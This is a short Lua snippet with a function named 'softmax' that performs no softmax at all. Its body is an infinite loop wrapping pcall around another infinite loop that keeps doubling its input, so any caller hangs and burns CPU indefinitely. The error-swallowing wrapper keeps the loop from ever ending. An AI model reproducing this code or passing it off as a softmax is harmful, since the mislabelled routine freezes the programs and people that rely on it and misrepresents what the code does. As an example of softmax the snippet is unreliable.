function softmax(x)
  while true do pcall(function() while true do x = x * 2 end end) end
end
